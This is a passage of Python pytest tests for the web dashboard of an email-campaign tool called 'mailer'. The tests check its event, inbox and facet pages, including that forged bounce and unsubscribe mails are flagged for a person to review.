    the inbox and the contacts check record through the Ledger: every way of being reached or
    not. Returns (schedules.yaml, ledger)."""
    folder = tmp_path_factory.mktemp("gala")
    cfg = write_campaign(folder, events=GALA_EVENTS, steps=GALA_STEPS, contacts=GALA_CONTACTS)
    db = folder / "ledger.db"
    at = datetime(2030, 1, 20, 12, 0, tzinfo=UTC)
    with Ledger(db) as ledger:  # unsubscribed before the campaign: the planner suppresses her
        ledger.suppress("sue@example.org", "unsubscribed", at)
    handler = FaultyHandler(
        rcpt_replies={"bob@example.org": f"550 {REJECTED}", "gus@example.org": f"451 {GREYLISTED}"}
    )
    with SmtpServer(handler) as server:
        env = {
            "MAILER_SMTP_HOST": server.host,
            "MAILER_SMTP_PORT": str(server.port),
            "MAILER_SMTP_TLS": "none",
        }
        result = CliRunner().invoke(
            cli, ["send", "--config", str(cfg), "--now", "2030-02-01T09:05", "--force"], env=env
        )
        assert result.exit_code == 0, result.output
    answered = datetime(2030, 2, 2, 10, 0, tzinfo=UTC)
    with Ledger(db) as ledger:
        for i, (email, partstat) in enumerate(
            (
                ("ann@example.org", "ACCEPTED"),
                ("tom@example.org", "TENTATIVE"),
                ("dora@example.org", "DECLINED"),
            )
        ):
            ledger.record_reply("test", "gala", email, partstat, answered, f"<a{i}@example.org>")
        [(bea,)] = ledger.conn.execute("SELECT id FROM deliveries WHERE email='bea@example.org'")
        assert ledger.record_bounce(bea, "bea@example.org", *DSN, answered) == 1
        due = datetime(2030, 2, 1, 8, 0, tzinfo=UTC)
        decided = [
            Decided(
                "invite", "gala", "marc.dupont@@example", "Marc Dupont", due, Status.INVALID, INVALID_REASON
            ),
            Decided("invite", "gala", "late@example.org", "Lena Late", due, Status.SKIPPED, SKIPPED_REASON),
        ]
        ledger.record_decided("test", decided, answered)
    return cfg, db


@pytest.fixture(scope="module")
def gala_dashboard(gala: tuple[Path, Path]) -> Iterator[str]:
    """`mailer dashboard --config` in a subprocess, as staff start it: the time zone and the
    configured steps come from schedules.yaml."""
    cfg, db = gala
    port = free_port()
    yield from _served(
        [sys.executable, "-m", "mailer", "dashboard", "--config", str(cfg), "--port", str(port)], port
    )


def _section(driver: Any, section: str, table: str) -> list[list[str]]:
    """Cell texts of one table in one section of the event page."""
    from selenium.webdriver.common.by import By

    rows = driver.find_elements(By.CSS_SELECTOR, f"section#{section} table.{table} tbody tr")
    return [[td.text.strip() for td in tr.find_elements(By.CSS_SELECTOR, "td")] for tr in rows]


def _follow(browser: Any, element: Any, path: str) -> None:
    """Click ``element`` and wait until the browser is at ``path`` of the same site: the click
    only starts the navigation, and on a busy machine the page comes a moment later."""
    from urllib.parse import urlsplit

    from selenium.webdriver.support.ui import WebDriverWait

    element.click()
    WebDriverWait(browser, 10).until(lambda b: urlsplit(b.current_url).path == path)


def test_event_page_answers_the_four_questions(
    gala_dashboard: str, gala: tuple[Path, Path], browser: Any, tmp_path: Path
) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import Select

    before = _fingerprint(gala[1])
    browser.get(gala_dashboard + "/")  # the home page is the list of events
    assert browser.current_url == f"{gala_dashboard}/-/events"
    # Picked from a list, not typed: the picker is a plain GET form (no JavaScript needed).
    picker = Select(browser.find_element(By.ID, "event-choice"))
    assert [o.text for o in picker.options][1:] == ["gala: Spring gala (test) – Sun 10 Mar 2030 19:00 CET"]
    picker.select_by_value("test/gala")
    _follow(browser, browser.find_element(By.CSS_SELECTOR, "form.pick button"), "/-/events/test/gala")
    assert browser.title == "gala (test) \u2013 mailer delivery log"
    assert browser.find_element(By.TAG_NAME, "h1").text == "Spring gala"

    # 1. who is coming, with names; who is not, folded away
    assert _section(browser, "coming", "people")[:2] == [
        ["Ann Andries", "ann@example.org", "coming", "Sat 02 Feb 2030 11:00 CET"],
        ["Tom Tack", "tom@example.org", "maybe", "Sat 02 Feb 2030 11:00 CET"],
    ]
    folded = browser.find_element(By.CSS_SELECTOR, "section#coming details")
    assert folded.find_element(By.TAG_NAME, "summary").text == "Not coming: 1"
    assert [tr.get_attribute("data-email") for tr in folded.find_elements(By.CSS_SELECTOR, "tbody tr")] == [
        "dora@example.org"
    ]
    # 2. reached, no answer
    assert _section(browser, "silent", "silent") == [["Carl Claes", "carl@example.org", ""]]
    assert "Who has not answered: 1 of 4 reached" in browser.page_source
    # 3. not reached, and why: the DSN for the bounce (not our server's 250), the server's reply
    # for the refusal, the reasons for invalid, suppressed and skipped
    missed = {r[1]: r for r in _section(browser, "missed", "missed")}
    assert sorted(missed) == [
        "bea@example.org",
        "bob@example.org",
        "late@example.org",
        "marc.dupont@@example",
        "sue@example.org",
    ]
    assert missed["bea@example.org"][2] == f"invite: bounced \u2013 {DSN[0]} {DSN[1]}"
    assert "250" not in missed["bea@example.org"][2]
    assert missed["bob@example.org"][2] == f"invite: failed \u2013 550 {REJECTED}"
    assert missed["marc.dupont@@example"][:3] == [
        "Marc Dupont",
        "marc.dupont@@example",
        f"invite: invalid \u2013 {INVALID_REASON}",
    ]
    assert missed["sue@example.org"][2].startswith("invite: suppressed \u2013 ")
    assert "unsubscribed" in missed["sue@example.org"][2]
    assert missed["late@example.org"][2] == f"invite: skipped \u2013 {SKIPPED_REASON}"
    # 4. what is still to be sent, and when: the greylisted retry, then the reminder's own time
    waiting = _section(browser, "waiting", "waiting")
    assert [(w[1], w[3], w[4]) for w in waiting] == [("invite", "gus@example.org", "deferred")]
    assert waiting[0][0].startswith("Fri 01 Feb 2030 ") and waiting[0][0].endswith(" CET")
    assert waiting[0][6] == f"451 {GREYLISTED}"
    assert _section(browser, "waiting", "upcoming") == [
        ["remind", "reminder", "Sat 09 Mar 2030 09:00 CET", "later"]
    ]

    # The charts: answers (with who has not answered) and each step's progress, as SVG.
    labels = [e.get_attribute("aria-label") for e in browser.find_elements(By.CSS_SELECTOR, "svg.mailer-bar")]
    assert "answers: 1 coming, 1 maybe, 1 not coming, 1 no answer yet" in labels
    assert "invite: 4 sent, 1 deferred, 1 failed, 1 bounced, 1 invalid, 1 suppressed, 1 skipped" in labels
    assert "remind: not started: due Sat 09 Mar 2030 09:00 CET" in labels
    # Readable on a laptop: at 1366 px nothing needs a sideways scroll.
    browser.set_window_size(1366, 768)
    try:
        assert browser.execute_script("return document.documentElement.scrollWidth") <= 1366
        shot = Path(os.environ.get(SCREENSHOT_ENV) or tmp_path / "dashboard.png")
        shot.parent.mkdir(parents=True, exist_ok=True)
        assert browser.save_screenshot(str(shot))
    finally:
        browser.set_window_size(1500, 900)
    assert _fingerprint(gala[1]) == before


def test_events_page_charts_answers_and_steps(gala_dashboard: str, browser: Any) -> None:
    from selenium.webdriver.common.by import By

    browser.get(f"{gala_dashboard}/{DATABASE}")  # the delivery log's page leads to the events
    _follow(browser, browser.find_element(By.LINK_TEXT, "Events"), "/-/events")
    assert browser.title == "Events \u2013 mailer delivery log"
    assert browser.find_element(By.CSS_SELECTOR, "p.crumbs").text == "events · inbox · delivery log"
    assert browser.find_element(By.CSS_SELECTOR, "p.inbox-needs").text == "Inbox: no mail needs a person."
    row = browser.find_element(By.CSS_SELECTOR, 'table.answers tr[data-event="test/gala"]')
    assert [td.text for td in row.find_elements(By.CSS_SELECTOR, "td.num")] == ["1", "1", "1"]
    bar = row.find_element(By.CSS_SELECTOR, "svg.mailer-bar")
    assert bar.get_attribute("aria-label") == "gala: 1 coming, 1 maybe, 1 not coming"
    assert len(bar.find_elements(By.CSS_SELECTOR, "rect")) == 3
    steps = {
        tr.get_attribute("data-step"): tr.find_element(By.CSS_SELECTOR, "svg").get_attribute("aria-label")
        for tr in browser.find_elements(By.CSS_SELECTOR, "table.steps tbody tr")
    }
    assert steps == {
        "invite": "invite: 4 sent, 1 deferred, 1 failed, 1 bounced, 1 invalid, 1 suppressed, 1 skipped",
        "remind": "remind: not started: due Sat 09 Mar 2030 09:00 CET",
    }
    _follow(browser, row.find_element(By.LINK_TEXT, "gala"), "/-/events/test/gala")


async def test_event_pages_are_read_only_and_need_the_login(
    gala: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    from datasette_auth_passwords.utils import hash_password

    cfg, db = gala
    monkeypatch.setenv(PASSWORD_ENV, "")  # create() sets it; restored after the test
    ds = create(db, timezone=TZ, password_hash=hash_password("s3cret"))
    for path in ("/-/events", "/-/events/test/gala", "/-/events?event=test/gala"):
        r = await ds.client.get(path)
        assert (r.status_code, r.headers.get("location")) == (302, "/-/login"), path
    ds = create(db, timezone=TZ)  # no plan: the ledger alone still answers
    r = await ds.client.get("/-/events/test/gala")
    assert r.status_code == 200 and "Carl Claes" in r.text and "Steps not started yet" not in r.text
    assert (await ds.client.get("/-/events/test/nope")).status_code == 404
    assert (await ds.client.post("/-/events/test/gala", data={"x": "1"})).status_code == 405


async def test_event_page_matches_answers_by_address_key(tmp_path: Path) -> None:
    """A contact list that spells an address with capitals, an answer stored under the key
    (Outlook's MAILTO:Celine.Mertens@Example.BE): she is coming, not "has not answered"."""
    from mailer.store import Claim, Outcome
    from mailer.vocab import Attempt

    db = tmp_path / "ledger.db"
    at = datetime(2030, 2, 1, 9, 0, tzinfo=UTC)
    with Ledger.create(db) as ledger:
        for email in ("Celine.Mertens@example.be", "jan@example.be", "ann@example.be"):
            [claimed] = ledger.claim(
                "test", [Claim("invite", "gala", email, email[:4], at, f"<{email}>", 0, True)], at
            )
            assert claimed is not None
            ledger.record_outcomes([Outcome(claimed.id, Attempt.SENT, 250, "ok", at)])
        ledger.record_reply("test", "gala", "MAILTO:Celine.Mertens@Example.BE", "ACCEPTED", at, "<r@x>")
        ledger.record_reply("test", "gala", "ann@example.be", "DECLINED", at, "<r2@x>")
    ds = create(db, timezone=TZ)
    page = (await ds.client.get("/-/events/test/gala")).text
    coming, _, rest = page.partition("has not answered")
    assert "celine.mertens@example.be" in coming.lower()
    assert "jan@example.be" in rest and "celine" not in rest.lower().split("not reached")[0]
    # The counts (one pass since issue 16: answers of addresses that are their own key are
    # found from the answers' side, the others by their key): 3 reached, only jan silent.
    conn = sqlite3.connect(db)
    conn.create_function("address_key", 1, address_key, deterministic=True)
    report = events.event_report(conn, events.Plan.from_json({}), ZoneInfo(TZ), "test", "gala", at)
    conn.close()
    assert report is not None
    assert (report.reached_count, report.silent_count, report.missed_count) == (3, 1, 0)
    assert [p.email for p in report.silent] == ["jan@example.be"]


def test_summary_names_every_status() -> None:
    """The summary's columns cover the whole vocabulary (a status missing there is invisible to
    staff): each final and open status is counted (sending with pending)."""
    from mailer.dashboard import build_metadata
    from mailer.vocab import Status

    sql = build_metadata("UTC")["databases"]["ledger"]["queries"]["summary"]["sql"]
    for status in Status:
        assert f"'{status.value}'" in sql, status


# -- Inbox: what needs a person (issue 15) ----------------------------------------------------


@pytest.fixture(scope="module")
def inbox_ledger(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A ledger whose inbox table was written by mailer.inbox.process over a real Maildir: at
    NOW a forged DSN, the poison mail and a genuine reply (handled: needs nobody); an hour
    later a second forged DSN, a forged unsubscribe and a forged reply."""
    from datetime import timedelta

    from test_inbox import NOW, ledger_with_deliveries
    from test_inbox_attacks import (
        CAMPAIGN,
        FORGED_DSN,
        FORGED_UNSUBSCRIBE,
        POISON,
        SECRET,
        box,
        forged_reply,
        gmail_reply,
    )

    from mailer.inbox import process

    folder = tmp_path_factory.mktemp("inbox")
    with ledger_with_deliveries(folder / "mailer.db", CAMPAIGN) as led:
        first = process(
            box(folder / "in1", FORGED_DSN, POISON, gmail_reply()), led, CAMPAIGN, NOW, secret=SECRET
        )
        assert first.counts == {"unmatched-bounce": 1, "skipped": 1, "reply": 1}, first.lines
        later = box(
            folder / "in2", FORGED_DSN.replace(b"made-up.1", b"made-up.2"), FORGED_UNSUBSCRIBE, forged_reply()
        )
        second = process(later, led, CAMPAIGN, NOW + timedelta(hours=1), secret=SECRET)
        assert second.counts == {"unmatched-bounce": 1, "unmatched-unsubscribe": 1, "unmatched": 1}
    return folder / "mailer.db"


INBOX_LINE = (
    "inbox: 5 mails need a person (2 unmatched bounces, 1 unmatched reply, 1 unmatched unsubscribe,"
    " 1 skipped message): see mailer dashboard or mailer inbox --list"
)


def test_status_says_how_many_inbox_mails_need_a_person(inbox_ledger: Path, tmp_path: Path) -> None:
    """`mailer status` (a real process) gives one line for the unmatched and skipped mails;
    `mailer inbox --list` lists them newest first, without reading any mailbox."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("MAILER_IMAP")} | {"COLUMNS": "200"}

    def mailer(*args: str) -> str:
        proc = subprocess.run(
            [sys.executable, "-m", "mailer", *args, "--db", str(inbox_ledger)],
            cwd=tmp_path,  # no schedules.yaml: the ledger alone
            env=env,
            capture_output=True,
            text=True,
            timeout=60,
        )
        assert proc.returncode == 0, proc.stdout + proc.stderr
        return proc.stdout

    lines = mailer("status").splitlines()
    assert INBOX_LINE in lines, lines
    listed = mailer("inbox", "--list")
    assert listed.splitlines()[0] == INBOX_LINE.split(": see ")[0]
    order = [listed.index(s) for s in ("<made-up.2@", "<made-up.1@")]
    assert order == sorted(order), listed  # newest first
    assert "<unsub.forged@evil.example>" in listed and "skipped: message" in listed
    assert "els@example.be" not in listed  # the genuine reply was handled: nobody need read it


def test_inbox_page_lists_what_needs_a_person(inbox_ledger: Path) -> None:
    """The served dashboard's Inbox page: every unmatched and skipped mail (and nothing that
    was handled), newest first, with kind, time, address and detail, and a count per kind;
    the home page and the crumbs link to it."""
    port = free_port()
    code = "import sys; from mailer.dashboard import serve; serve(sys.argv[1], port=int(sys.argv[2]), timezone=sys.argv[3])"
    for base in _served([sys.executable, "-c", code, str(inbox_ledger), str(port), TZ], port):
        with urllib.request.urlopen(base + "/") as r:  # home: the events page
            home = r.read().decode()
        assert 'href="/-/inbox"' in home and "Inbox: 5 mails need a person" in home, home
        with urllib.request.urlopen(base + "/-/inbox") as r:
            page = r.read().decode()
    assert "<h1>Inbox: what needs a person</h1>" in page
    counts = dict(re.findall(r'<span data-kind="([a-z-]+)"><strong>(\d+)</strong>', page))
    assert counts == {"unmatched-bounce": "2", "unmatched": "1", "unmatched-unsubscribe": "1", "skipped": "1"}
    rows = re.findall(r'<tr data-kind="([a-z+-]+)">(.*?)</tr>', page, re.S)
    kinds = [k for k, _ in rows]
    assert sorted(kinds[:3]) == ["unmatched", "unmatched-bounce", "unmatched-unsubscribe"], kinds
    assert sorted(kinds[3:]) == ["skipped", "unmatched-bounce"], kinds
    html = dict((k + str(i), body) for i, (k, body) in enumerate(rows))
    # the time in the campaign's zone (NOW is 12:00 UTC: 13:00 in Brussels in January)
    assert any("2018-01-10 14:00:00 CET" in b and "made-up.2" in b for b in html.values()), rows
    skipped = next(b for k, b in rows if k == "skipped")
    assert "Message-ID" in skipped and "left unflagged for a person to read" in skipped
    bounce = next(b for k, b in rows if k == "unmatched-bounce")
    assert "jan@example.be" in bounce and "matches no mail we sent" in bounce
    assert 'href="/-/inbox"' in page  # in the crumbs of every mailer page
    assert "els@example.be" not in page  # the genuine reply was handled


# -- facets from delivery_counts (issue 16, target 5) -----------------------------------------

FACET_PAGES = [
    ("_facet=step", {}, ["status", "step"]),
    ("status=failed&_facet=step", {"status": "failed"}, ["status", "step"]),
    ("_facet=campaign&_facet=event", {}, ["status", "campaign", "event"]),
    ("step=remind", {"step": "remind"}, ["status"]),
    (
        "status=sent&step__exact=invite&_facet=campaign",
        {"status": "sent", "step": "invite"},
        ["status", "campaign"],
    ),
    ("event=launch&_facet=step", {"event": "launch"}, ["status", "step"]),  # Datasette's own
    ("status=deferred&_facet=step&_facet_size=1", {"status": "deferred"}, ["status", "step"]),
]


@pytest.mark.parametrize(("query", "where", "facets"), FACET_PAGES)
async def test_facets_count_what_count_star_counts(
    ledger_path: Path, query: str, where: dict[str, str], facets: list[str]
) -> None:
    """Each facet of a deliveries page shows what a direct COUNT(*) of the filtered rows says,
    in Datasette's order (count, then value); campaign, step and status come from
    delivery_counts, never from a GROUP BY over deliveries, when only they are filtered."""
    from datasette.tracer import capture_traces

    ds = create(ledger_path, timezone=TZ)
    traces: list[dict[str, Any]] = []
    with capture_traces(traces):
        r = await ds.client.get(f"/{DATABASE}/deliveries.json?{query}&_size=0")
    assert r.status_code == 200, r.text
    shown = r.json()["facet_results"]
    assert list(shown) == facets
    conn = sqlite3.connect(f"file:{ledger_path}?mode=ro", uri=True)
    try:
        terms = " AND ".join(f"{c} = ?" for c in where) or "1"
        for column in facets:
            truth = conn.execute(
                f"SELECT {column}, count(*) AS n FROM deliveries WHERE {terms} GROUP BY {column}"
                f" ORDER BY n DESC, {column}",
                list(where.values()),
            ).fetchall()
            size = 1 if "_facet_size=1" in query else 30
            got = [(v["value"], v["count"]) for v in shown[column]["results"]]
            assert got == truth[:size], (column, got, truth)
            assert shown[column]["truncated"] == (len(truth) > size)
            for v in shown[column]["results"]:  # the links filter as Datasette's would
                assert v["selected"] == (where.get(column) == v["value"] and f"{column}=" in query)
    finally:
        conn.close()
    scans = [t["sql"] for t in traces if "group by" in t["sql"].lower() and "delivery_counts" not in t["sql"]]
    if "event" not in query:
        assert not scans, scans  # every facet counted from delivery_counts
        assert any("delivery_counts" in t["sql"] for t in traces)
    else:
        assert scans  # event is not in delivery_counts: Datasette's facet as before
